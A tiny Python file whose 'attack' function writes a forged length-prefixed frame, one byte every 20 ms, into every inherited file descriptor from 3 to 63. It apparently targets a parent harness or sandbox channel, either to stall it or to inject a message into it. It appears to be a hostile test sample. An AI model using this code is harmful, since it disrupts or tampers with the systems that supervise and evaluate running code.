"""Send a frame a byte at a time, so that something always arrives."""
import os
import struct
import time


def attack(x):
    head = struct.pack("<2sBBIQ", b"BG", 1, 19, 100000, 0)
    for byte in head + b" " * 100000:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, bytes([byte]))
            except OSError:
                pass
        time.sleep(0.02)
